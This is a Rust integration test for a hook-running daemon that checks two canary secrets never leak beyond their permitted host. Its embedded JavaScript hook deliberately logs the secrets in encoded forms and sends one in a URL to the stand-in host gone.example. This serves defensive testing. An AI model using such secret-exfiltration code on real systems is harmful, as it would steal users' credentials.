//! Canaries: two secrets whose hook does its worst with them, and a search through everything that the daemon leaves
//! behind, says and sends. They may be found at the host that they were sent to, and nowhere else.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex, PoisonError};

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::api::{Api, finished};
use crate::daemon::{CACHE, Daemon, HOOKBOX, OPERATOR_TOKEN, Setup};
use crate::eventually::{block_on, eventually};
use crate::receiver::Receiver;
use crate::{Case, Need, case_needing};

pub(crate) const CASES: &[Case] = &[case_needing(
    "a canary secret is found at the host that it was sent to and nowhere else",
    &[Need::JavaScript],
    canary_is_found_nowhere_else,
)];

/// With what JSON, addresses and base64 write in another way, around letters that stay as they are in most of them.
const OPEN: &str = "open/canary+\"7f3a9c51e2d84b06\" é&end";
const SEALED: &str = "sealed/canary+\"c04e8b7712fa96d3\" é&end";
const CORES: [&str; 2] = ["7f3a9c51e2d84b06", "c04e8b7712fa96d3"];

/// A host that refuses connections, and one whose answers repeat what it was sent.
const GONE: &str = "gone.example";
const SERVICE: &str = "service.example";

const SCRIPT: &str = r#"
const request = require('request');
module.exports = function (user, context, cb) {
  const open = context.webtask.secrets.OPEN, sealed = context.webtask.secrets.SEALED;
  [open, sealed].forEach(function (secret) {
    ['', 'x', 'xy'].forEach(function (before) {
      console.log('base64', Buffer.from(before + secret + 'tail').toString('base64'));
      console.log('base64', Buffer.from(before + secret).toString('base64').replace(/\+/g, '-').replace(/\//g, '_'));
    });
    console.log('raw', secret);
    console.error('hex', Buffer.from(secret).toString('hex'), Buffer.from(secret).toString('hex').toUpperCase());
    console.warn('percent', encodeURIComponent(secret), encodeURIComponent(secret).replace(/%20/g, '+'));
    console.log('json', JSON.stringify({ key: secret }), JSON.stringify(JSON.stringify({ key: secret })));
  });
  console.log(context.webtask.secrets);
  const path = encodeURIComponent(open) + '?key=' + encodeURIComponent(open);
  request.get('https://gone.example/' + path, function (refused) {
    console.log(refused && refused.message, refused);
    request.get('http://127.0.0.1:1/' + path, function (blocked) {
      console.log(blocked);
      const options = {
        url: 'https://service.example/v1/' + sealed + '?open=' + encodeURIComponent(open),
        headers: { authorization: 'Bearer ' + sealed, 'x-open': open.replace('é', 'e') },
        auth: undefined,
        json: { sealed: sealed, open: open }
      };
      request.post(options, function (error, response, body) {
        console.log(error, response && response.statusCode, response && response.headers, body);
        const thrown = new Error('refused: ' + open + ' ' + Buffer.from(open).toString('base64'));
        thrown.code = open;
        throw thrown;
      });
    });
  });
};
"#;

fn canary_is_found_nowhere_else() -> Result<()> {
    block_on(async {
        let directory = tempfile::tempdir()?;
        let data = directory.path().join("data");
        let log = directory.path().join("daemon.log");
        let receiver = Receiver::start(SERVICE, directory.path()).await?;
        receiver.answer_with(202, &json!({ "sealed": SEALED, "open": OPEN }).to_string());
        let collector = Collector::start().await?;
        let daemon = Setup::new(&data)
            .reach(SERVICE, receiver.address, &receiver.ca)
            .flag("--egress-resolve", format!("{GONE}=127.0.0.1:1"))
            .flag("--otlp-endpoint", &collector.url)
            .logged("debug", &log)
            .start()?;
        let mut found = Findings::default();
        let tenant = daemon.tenant("acme").await?;
        let tail = follow(&daemon, tenant.token()).await?;
        let (hook, event) = provoke(&tenant).await?;

        check_receiver(&receiver)?;
        check_attempt(&event)?;
        found.text("the event", &event.to_string());
        let run = json!({ "trigger": "post-change-password", "hook_id": hook });
        found.text("the runner", &read(&daemon, tenant.token(), "/v1/runner", Some(&run)).await?);
        let with_script = json!({ "trigger": "post-change-password", "hook_id": hook, "script": SCRIPT });
        found.text("the runner with a script", &read(&daemon, tenant.token(), "/v1/runner", Some(&with_script)).await?);
        for path in tenant_paths(&hook, &event) {
            found.text(&path, &read(&daemon, tenant.token(), &path, None).await?);
        }
        for path in ["/metrics", "/openapi.json", "/healthz", "/readyz", "/v1/tenants", "/v1/audit", "/v1/stats"] {
            found.text(path, &read(&daemon, OPERATOR_TOKEN, path, None).await?);
        }
        found.folder(&data)?;
        let backup = directory.path().join("backup.db");
        let made = Command::new(HOOKBOX).args(["backup", "--data-dir"]).arg(&data).arg("--to").arg(&backup).output()?;
        ensure!(made.status.success(), "backup: {}", String::from_utf8_lossy(&made.stderr));
        found.text("what backup says", &String::from_utf8_lossy(&[made.stdout, made.stderr].concat()));

        let status = daemon.terminate()?;
        ensure!(status.success(), "{status}");
        let heard = eventually("the end of the live log", std::time::Duration::from_secs(20), || {
            let heard = tail.text();
            async move { Ok(heard.contains("event: end").then_some(heard)) }
        })
        .await?;
        ensure!(heard.contains("event: line") && heard.contains("event: entry"), "the live log: {heard}");
        found.text("the live log", &heard);
        ensure!(!collector.bytes().is_empty(), "no trace arrived");
        found.bytes("the traces", &collector.bytes());
        // The same again on what is left: a stop writes too.
        found.folder(directory.path())?;
        found.folder(Path::new(CACHE))?;
        found.none()
    })
}

/// Makes the hook, has it run, and waits until its delivery has ended.
async fn provoke(tenant: &Api) -> Result<(String, Value)> {
    let hook = json!({ "name": "canary", "script": SCRIPT, "triggerId": "post-change-password", "enabled": true });
    let answer = tenant.post("/api/v2/hooks", &hook).await?;
    ensure!(answer.status == 201, "{answer:?}");
    let hook = answer.json["id"].as_str().context("the answer has an id")?.to_owned();
    let secrets = json!({ "OPEN": OPEN, "SEALED": SEALED });
    let answer = tenant.post(&format!("/api/v2/hooks/{hook}/secrets"), &secrets).await?;
    ensure!(answer.status == 201, "{answer:?}");
    let settings = json!({ "sealed_secrets": { "SEALED": { "hosts": [SERVICE] } } });
    let answer = tenant.patch(&format!("/v1/hooks/{hook}/settings"), &settings).await?;
    ensure!(answer.status == 200, "{answer:?}");
    let id = tenant.password_changed("user1@example.com").await?;
    let event = tenant.event_when(&id, finished).await?;
    Ok((hook, event))
}

fn check_receiver(receiver: &Receiver) -> Result<()> {
    let received = receiver.received();
    let request = received.first().context("the service was called")?;
    ensure!(request.header("authorization") == Some(&format!("Bearer {SEALED}")), "{request:#?}");
    ensure!(request.json == json!({ "sealed": SEALED, "open": OPEN }), "{request:#?}");
    ensure!(
        request.line.starts_with("POST /v1/sealed%2Fcanary%2B%22c04e8b7712fa96d3%22%20%C3%A9%26end?"),
        "{request:#?}"
    );
    Ok(())
}

/// The hook really did all of that: otherwise nothing found would mean nothing.
fn check_attempt(event: &Value) -> Result<()> {
    let attempt = &event["deliveries"][0]["attempts"][0];
    ensure!(attempt["outcome"] == "failed", "{attempt:#}");
    let text = attempt.to_string();
    for part in ["[secret OPEN]", "hookbox_sealed_", "refused: [secret OPEN] [secret OPEN]", "blocked", "gone.example"]
    {
        ensure!(text.contains(part), "'{part}' is not in {attempt:#}");
    }
    let calls = attempt["http"].as_array().map(Vec::len);
    ensure!(calls == Some(3), "{attempt:#}");
    Ok(())
}

fn tenant_paths(hook: &str, event: &Value) -> Vec<String> {
    let event = event["id"].as_str().unwrap_or_default();
    [
        "/v1/events",
        "/v1/events?user=user1@example.com",
        "/api/v2/logs",
        "/api/v2/hooks",
        "/v1/hooks",
        "/v1/tokens",
        "/v1/audit",
        "/v1/stats",
        "/v1/settings",
        "/v1/triggers",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([format!("/v1/events/{event}"), format!("/api/v2/hooks/{hook}"), format!("/api/v2/hooks/{hook}/secrets")])
    .chain(["versions", "versions/1", "settings"].map(|part| format!("/v1/hooks/{hook}/{part}")))
    .collect()
}

/// An answer as it came, whatever it is.
async fn read(daemon: &Daemon, token: &str, path: &str, body: Option<&Value>) -> Result<String> {
    let http = reqwest::Client::builder().no_proxy().build()?;
    let url = format!("{}{path}", daemon.url);
    let request = body.map_or_else(|| http.get(&url), |body| http.post(&url).json(body));
    let response = request.bearer_auth(token).send().await?;
    let (status, headers) = (response.status(), format!("{:?}", response.headers()));
    let text = response.text().await?;
    ensure!(status.is_success(), "{path}: {status} {text}");
    Ok(format!("{headers}\n{text}"))
}

/// What was read so far of something that goes on.
#[derive(Clone, Default)]
struct Reading(Arc<Mutex<Vec<u8>>>);

impl Reading {
    fn push(&self, bytes: &[u8]) {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).extend_from_slice(bytes);
    }

    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().unwrap_or_else(PoisonError::into_inner)).into_owned()
    }
}

async fn follow(daemon: &Daemon, token: &str) -> Result<Reading> {
    let http = reqwest::Client::builder().no_proxy().build()?;
    let mut response = http.get(format!("{}/v1/logs/tail", daemon.url)).bearer_auth(token).send().await?;
    ensure!(response.status() == 200, "{response:?}");
    let reading = Reading::default();
    let kept = reading.clone();
    tokio_util::task::TaskTracker::new().spawn(async move {
        while let Ok(Some(bytes)) = response.chunk().await {
            kept.push(&bytes);
        }
    });
    Ok(reading)
}

/// A collector of traces: keeps what comes, and says that it is well.
struct Collector {
    url: String,
    kept: Reading,
}

impl Collector {
    async fn start() -> Result<Self> {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
        let url = format!("http://{}", listener.local_addr()?);
        let kept = Reading::default();
        let keeping = kept.clone();
        let tracker = tokio_util::task::TaskTracker::new();
        tracker.clone().spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let keeping = keeping.clone();
                tracker.spawn(async move {
                    let mut bytes = Vec::new();
                    // Each request has a connection of its own, whose end is the answer's.
                    while !is_whole(&bytes) && matches!(stream.read_buf(&mut bytes).await, Ok(1..)) {}
                    keeping.push(&bytes);
                    drop(stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\nconnection: close\r\n\r\n").await);
                });
            }
        });
        Ok(Self { url, kept })
    }

    fn bytes(&self) -> Vec<u8> {
        self.kept.0.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

fn is_whole(bytes: &[u8]) -> bool {
    let Some(end) = bytes.windows(4).position(|window| window == b"\r\n\r\n") else { return false };
    let head = String::from_utf8_lossy(&bytes[..end]).to_ascii_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
    length.is_some_and(|length| bytes.len() >= end + 4 + length)
}

/// Where a canary was found that should not be there.
#[derive(Default)]
struct Findings {
    places: Vec<String>,
    searched: usize,
}

impl Findings {
    fn text(&mut self, place: &str, text: &str) {
        self.bytes(place, text.as_bytes());
    }

    fn bytes(&mut self, place: &str, bytes: &[u8]) {
        self.searched += 1;
        let bytes = bytes.to_ascii_lowercase();
        for needle in needles() {
            if bytes.windows(needle.len()).any(|window| window == needle.as_bytes()) {
                self.places.push(format!("{place}: {needle}"));
            }
        }
    }

    /// Every file below.
    fn folder(&mut self, folder: &Path) -> Result<()> {
        for entry in std::fs::read_dir(folder)? {
            let path: PathBuf = entry?.path();
            if path.is_dir() {
                self.folder(&path)?;
            } else if path.is_file() {
                let bytes = std::fs::read(&path).with_context(|| format!("read {}", path.display()))?;
                self.bytes(&path.display().to_string(), &bytes);
            }
        }
        Ok(())
    }

    fn none(&self) -> Result<()> {
        ensure!(self.searched > 40, "only {} places were searched", self.searched);
        ensure!(self.places.is_empty(), "{}", self.places.join("\n"));
        Ok(())
    }
}

/// What must not be found: every form of the values, and the middle of them by itself, all in lower case.
fn needles() -> Vec<String> {
    let hex = |text: &str| text.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
    let forms = [OPEN, SEALED].into_iter().flat_map(hookbox_egress::disguise::of);
    let cores = CORES.into_iter().flat_map(|core| [core.to_ascii_lowercase(), hex(core)]);
    forms.chain(cores).collect()
}
